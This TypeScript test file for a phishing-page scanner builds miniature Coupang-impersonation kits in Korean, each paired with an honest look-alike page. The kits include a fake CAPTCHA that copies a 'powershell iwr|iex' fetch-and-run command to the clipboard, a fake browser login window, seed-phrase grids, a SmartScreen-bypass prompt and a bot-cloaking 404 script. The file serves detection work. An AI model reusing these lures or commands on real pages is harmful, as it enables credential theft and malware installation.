import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { scanPage } from '../../lib/page/index';
import { parse } from './helpers';

/**
 * Author P's half (frozen-p, scored once), fixed by class with pages written apart from it; next to each kit the
 * honest page that shares its words or its shape, which must stay clean.
 */
const page = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;
const scan = (html: string, url = 'https://x.example/p') =>
  scanPage(parse(html), url, { parseHtml: (m) => parseHTML(m).document as unknown as Document });
const codes = (html: string, url?: string) => scan(html, url).reasons.map((r) => r.code);
const b64svg = (inner: string, w = 200, h = 40) =>
  `data:image/svg+xml;base64,${Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}">${inner}</svg>`,
  ).toString('base64')}`;
const letters = (word: string, colours: string[]) =>
  [...word]
    .map((c, i) => `<text x="${4 + i * 14}" y="20" fill="${colours[i % colours.length]}">${c}</text>`)
    .join('');
const BRAND_COLOURS = ['#7b3f1d', '#e3262a', '#f4a41c', '#93c11f', '#3fa5dc', '#2a66b3', '#5b3a8f'];

describe("author P's classes", () => {
  it("reads the steps a kit keeps hidden until its script (or an onclick) shows them; a page's closed FAQ stays what it is", () => {
    const steps =
      '<div id="steps" style="display:none">확인 절차: 1. Windows 키 + R 을 누르세요 2. Ctrl + V 로 붙여넣기 3. Enter</div>';
    const kit = page(
      '보안 확인',
      '<b>쿠팡</b><h2>보안 확인</h2><p>쿠팡 주문 확인 전에 로봇이 아님을 확인해 주세요.</p><label><input type="checkbox" id="c"> 로봇이 아닙니다</label>' +
        steps +
        '<script>var k="powershell -c iwr x|iex";document.getElementById("c").onchange=function(){navigator.clipboard.writeText(k);document.getElementById("steps").style.display="block"}</script>',
    );
    expect(codes(kit)).toContain('asks-run-command');
    // the same reveal written in the checkbox's own onclick attribute
    const inline = page(
      '보안 확인',
      '<b>쿠팡</b><h2>보안 확인</h2><p>쿠팡 주문 확인 전에 로봇이 아님을 확인해 주세요.</p>' +
        "<label><input type=\"checkbox\" onclick=\"navigator.clipboard.writeText('cmd /c x');document.getElementById('steps').style.display='block'\"> 로봇이 아닙니다</label>" +
        steps,
    );
    expect(codes(inline)).toContain('asks-run-command');
    // the red team's reveals: by class, by toggleAttribute, by visibility, through a clipboard alias
    const byClass = kit
      .replace('<div id="steps" style="display:none">', '<div class="steps" hidden>')
      .replace(
        'document.getElementById("steps").style.display="block"',
        'document.querySelector(".steps").hidden=false',
      );
    expect(codes(byClass)).toContain('asks-run-command');
    const toggled = kit.replace(
      'document.getElementById("steps").style.display="block"',
      'document.getElementById("steps").removeAttribute("style")',
    );
    expect(codes(toggled)).toContain('asks-run-command');
    const alias = kit.replace(
      'navigator.clipboard.writeText(k)',
      'var cb=navigator.clipboard;cb.writeText(k)',
    );
    expect(codes(alias)).toContain('asks-run-command');
    // the steps hidden and never shown by the page: a designer's leftover is not read
    const never = page(
      '보안 확인',
      '<b>쿠팡</b><h2>보안 확인</h2><p>쿠팡 주문 확인 전에 로봇이 아님을 확인해 주세요.</p>' +
        steps +
        '<script>navigator.clipboard.writeText("hello")</script>',
    );
    expect(codes(never)).not.toContain('asks-run-command');
    // an honest help page's answer shown on click: read, and nothing in it asks
    const faq = page(
      '자주 묻는 질문',
      "<h1>쿠팡 주문 취소 방법</h1><button onclick=\"document.getElementById('a1').style.display='block'\">취소는 어떻게 하나요?</button>" +
        '<div id="a1" style="display:none">마이쿠팡 → 주문목록에서 취소 버튼을 누르면 됩니다.</div>',
    );
    expect(scan(faq).verdict).toBe('clean');
  });

  it("reads a wizard's next step that its script shows through a data attribute", () => {
    const wizard = page(
      '배송 안내',
      '<b>쿠팡</b><h2>쿠팡 배송 기사 안내</h2><p>주소지 오류로 반송 예정입니다.</p>' +
        '<form data-next="s2"><label>주소</label><input name="a"><button>다음</button></form>' +
        '<form id="s2" style="display:none"><label>공동현관 비밀번호</label><input name="g"><button>반송 취소</button></form>' +
        '<script>document.querySelector("form").onsubmit=function(e){e.preventDefault();document.getElementById(this.dataset.next).style.display="block"}</script>',
    );
    expect(codes(wizard)).toContain('asks-entrance-code');
    expect(scan(wizard).verdict).toBe('suspicious-page');
  });

  it("counts a drawn address bar on the brand's host beside a password; an article quoting the address does not", () => {
    const bitb = page(
      '특가몰',
      "<h1>오늘의 특가몰</h1><p>쿠팡 계정으로 바로 로그인하세요.</p><button onclick=\"document.getElementById('win').style.display='block'\">쿠팡 계정으로 계속하기</button>" +
        '<div id="win" style="display:none"><div class="bar">🔒 https://login.coupang.com/login/oauth?client=deal</div>' +
        '<form><label>이메일</label><input name="e"><label>비밀번호</label><input type="password" name="p"><button>로그인</button></form></div>',
    );
    expect(codes(bitb)).toContain('brand-account-ask');
    expect(scan(bitb).verdict).toBe('suspicious-page');
    // a shop's own login whose help text names the brand's address in a sentence
    const shop = page(
      '바른마켓 로그인',
      '<header><b>바른마켓</b></header><h1>로그인</h1><form><label>아이디</label><input name="i"><label>비밀번호</label><input type="password" name="p"><button>로그인</button></form>' +
        '<p>쿠팡 주문은 쿠팡 사이트(https://www.coupang.com)에서 확인하세요.</p>',
    );
    expect(codes(shop)).not.toContain('brand-account-ask');
    expect(scan(shop).verdict).toBe('clean');
    // a shop's own login that lists where else it sells, an address alone on its line (red team)
    const listed = page(
      '하늘차 로그인',
      '<header><b>하늘차</b></header><h1>회원 로그인</h1><form><label>아이디</label><input name="i"><label>비밀번호</label><input type="password" name="p"><button>로그인</button></form>' +
        '<p>다른 곳에서도 만나보세요</p><ul><li><a href="https://www.coupang.com/np/search?q=하늘차">www.coupang.com/np/search?q=하늘차</a></li></ul><p>www.coupang.com/np/search?q=하늘차</p>',
    );
    expect(codes(listed)).not.toContain('brand-account-ask');
    // a bar that copies the old "Secure |" label before the address
    expect(codes(bitb.replace('🔒 https://', '보안 연결 | https://'))).toContain('brand-account-ask');
  });

  it('counts a QR code whose scan leads to a secret on the phone; a store QR, a tracking QR and a TV login do not', () => {
    const gate = page(
      '재배송',
      '<b>로켓배송</b><h1>부재중 재배송 예약</h1><p>문 앞 안내문의 QR과 같은 페이지입니다. 스캔 후 본인확인 및 출입번호를 입력하세요.</p>',
    );
    expect(codes(gate)).toContain('qr-handoff');
    const card = page(
      '와우 혜택',
      '<b>쿠팡 와우</b><h1>혜택 갱신</h1><p>혜택 갱신은 모바일에서만 가능합니다. QR을 스캔하고 결제 수단을 재등록하세요.</p>',
    );
    expect(codes(card)).toContain('qr-handoff');
    const store = page(
      '쿠팡 앱',
      '<h1>쿠팡 앱 설치 안내</h1><p>휴대폰 카메라로 QR을 스캔하면 앱 스토어로 이동합니다.</p><img alt="QR" src="qr.png">',
    );
    expect(codes(store)).not.toContain('qr-handoff');
    const courier = page(
      '택배 조회',
      '<h1>한빛택배 배송 조회</h1><p>송장의 QR을 스캔하면 배송 현황을 볼 수 있습니다. 쿠팡 주문도 조회됩니다.</p>',
    );
    expect(codes(courier)).not.toContain('qr-handoff');
    // the brand's own TV login (a QR approved in its app) and an app-only order: honest pages say so (red team)
    const tv = page(
      '쿠팡플레이 TV 로그인 방법',
      "<h1>쿠팡플레이 TV 앱 로그인</h1><p>TV 화면의 QR 코드를 휴대폰으로 스캔 후 쿠팡플레이 앱에서 '승인'을 누르면 비밀번호 없이 로그인됩니다.</p>",
    );
    expect(codes(tv)).not.toContain('qr-handoff');
    const eats = page(
      '한빛분식',
      '<header><b>한빛분식</b></header><h1>배달 주문</h1><p>쿠팡이츠 주문은 앱에서만 가능합니다. 아래 QR을 스캔하면 쿠팡이츠 가게 페이지가 열립니다.</p>',
    );
    expect(codes(eats)).not.toContain('qr-handoff');
  });

  it("counts a download the reader is told to run past Windows' warning; a bank's security program does not", () => {
    const kit = page(
      '보안 모듈',
      '<b>쿠팡</b><h1>보안 모듈 설치</h1><p>쿠팡 계정 보호를 위해 보안 모듈을 설치하세요. 설치 중 Windows 경고가 표시되면 "추가 정보 → 실행"을 눌러주세요.</p>' +
        '<a href="/dl/CPGuard_Setup.exe">다운로드</a>',
    );
    expect(codes(kit)).toContain('app-install-prompt');
    expect(scan(kit).verdict).toBe('suspicious-page');
    // the red team's wording: "'추가 정보'를 누르고 '실행'"
    const reworded = kit.replace(
      '"추가 정보 → 실행"을 눌러주세요',
      "'추가 정보'를 누르고 '실행' 버튼을 눌러주세요",
    );
    expect(codes(reworded)).toContain('app-install-prompt');
    // an unsigned indie tool for sellers tells its users the same steps, and protects nothing
    const tool = page(
      '쿠팡 윙 주문 엑셀 변환기',
      '<h1>쿠팡 윙 주문 엑셀 변환기 (무료)</h1><p>윙에서 내려받은 주문 파일을 택배사 양식으로 바꿔 줍니다. 서명되지 않은 개인 프로그램이라 설치 중 Windows 경고가 뜨면 "추가 정보 → 실행"을 누르세요.</p><a href="/dl/WingExcel_Setup.exe">다운로드</a>',
    );
    expect(codes(tool)).not.toContain('app-install-prompt');
    const bank = page(
      '보안프로그램 설치',
      '<header><b>한빛은행</b></header><h1>보안프로그램 설치</h1><p>인터넷뱅킹 이용을 위해 보안프로그램을 설치해 주세요.</p><a href="/dl/SafeTx_Setup.exe">설치</a><p>쿠팡 등 쇼핑몰 결제는 별도 설치가 필요 없습니다.</p>',
    );
    expect(scan(bank).verdict).toBe('clean');
  });

  it('finds a call-back number drawn in an image beside "report to the number below"', () => {
    const kit = page(
      '결제 승인',
      `<img alt="" src="${b64svg(letters('coupay', BRAND_COLOURS))}"><h1>해외결제 승인 알림</h1><p>결제수단 쿠페이 머니 USD 689.00. 본인 결제가 아닌 경우 아래 번호로 즉시 신고해 주세요.</p>` +
        `<img alt="신고센터" src="${b64svg('<text x="10" y="30">02-555-0143</text>', 300, 60)}">`,
    );
    expect(codes(kit)).toContain('callback-lure');
    // the brand's own number drawn so is the brand's
    const own = page(
      '결제 승인',
      `<h1>쿠페이 결제 승인 알림</h1><p>본인 결제가 아닌 경우 아래 번호로 문의해 주세요.</p><img alt="고객센터" src="${b64svg('<text x="10" y="30">1577-7011</text>', 300, 60)}">`,
    );
    expect(codes(own)).not.toContain('callback-lure');
  });

  it('reads a grid of twelve numbered word boxes on a wallet page as a recovery phrase; a numbered survey does not', () => {
    const boxes = Array.from({ length: 12 }, (_, i) => `<input placeholder="${i + 1}">`).join('');
    const kit = page(
      '에어드랍',
      `<b>coupang</b> Rewards<h1>피해 고객 보상 토큰 에어드랍</h1><p>지갑을 복구하여 수령하세요.</p><div>${boxes}</div><button>지갑 연결</button>`,
    );
    expect(codes(kit)).toContain('asks-seed-phrase');
    const zeros = Array.from(
      { length: 12 },
      (_, i) => `<input placeholder="${String(i + 1).padStart(2, '0')}">`,
    ).join('');
    expect(codes(kit.replace(boxes, zeros))).toContain('asks-seed-phrase');
    const survey = page(
      '만족도 조사',
      `<h1>쿠팡 배송 만족도 설문</h1><p>문항별 점수를 적어 주세요.</p><div>${boxes}</div><button>제출</button>`,
    );
    expect(codes(survey)).not.toContain('asks-seed-phrase');
  });

  it("counts a hand-off to an agent on LINE or Telegram; a shop's KakaoTalk consultation does not", () => {
    const kit = page(
      '재택 알바',
      '<b>쿠팡플렉스</b><h1>쿠팡플렉스 재택 검수 아르바이트</h1><p>업무 배정은 LINE 상담원이 진행합니다. 첫 업무 보증금 30,000원.</p><form><label>이름</label><input name="n"><label>연락처</label><input name="p" type="tel"></form>',
    );
    expect(codes(kit)).toContain('sends-to-messenger');
    expect(codes(kit.replace('LINE 상담원이', '라인(Line) 채용 담당이'))).toContain('sends-to-messenger');
    expect(codes(kit.replace('LINE 상담원이', '텔레그램으로 체험단 전담 매니저가'))).toContain(
      'sends-to-messenger',
    );
    const shop = page(
      '문의',
      '<header><b>바른마켓</b></header><h1>고객 문의</h1><p>카카오톡 상담원이 평일 9시부터 답변합니다. 쿠팡 입점 상품도 문의 가능합니다.</p>',
    );
    expect(codes(shop)).not.toContain('sends-to-messenger');
  });

  it('reads "Wing Seller Center" as the brand, and a service word drawn in its first four colours as its mark', () => {
    const wing = page(
      'Seller',
      '<div class="hd"><b>ＷＩＮＧ</b> <span>Seller Center</span></div><h1>판매 정지 해제 신청</h1><form><label>판매자 ID</label><input name="i"><label>비밀번호</label><input type="password" name="p"><label>OTP</label><input name="o"></form>',
    );
    expect(scan(wing).verdict).toBe('suspicious-page');
    const flex = page(
      '배송 확정',
      `<div class="bar"><svg width="60" height="28">${letters('flex', BRAND_COLOURS)}</svg></div><h1>플렉스 배송 지원 확정</h1><p>본인 인증이 필요합니다.</p><form><label>주민등록번호</label><input name="r"><label>인증번호</label><input name="o"></form>`,
    );
    expect(codes(flex)).toContain('brand-logo');
    // the same four letters in colours of their own: a fitness studio's
    const gym = page(
      '회원 가입',
      `<div class="bar"><svg width="60" height="28">${letters('flex', ['#111111', '#333333', '#555555', '#777777'])}</svg></div><h1>플렉스 피트니스 회원 가입</h1><form><label>비밀번호</label><input type="password" name="p"></form>`,
    );
    expect(codes(gym)).not.toContain('brand-logo');
  });

  it("names no owner with an error page's words in a title the script sets (a cloak's 404)", () => {
    const kit = page(
      '환불 처리',
      '<h1>환불 센터</h1><p>고객님 쿠팡 주문 건의 환불 처리 중 오류가 발생했습니다. 본인 인증 후 환불 계좌를 확인해 주세요.</p>' +
        '<form><label>이름</label><input name="n"><label>생년월일</label><input name="b"><label>휴대폰</label><input name="p"><label>환불 계좌번호</label><input name="a"></form>' +
        "<script>if(navigator.webdriver){document.title='Not Found';document.body.innerHTML='<h1>404 Not Found</h1>'}</script>",
    );
    expect(codes(kit)).not.toContain('context-other-site');
    expect(scan(kit).verdict).toBe('suspicious-page');
  });
});
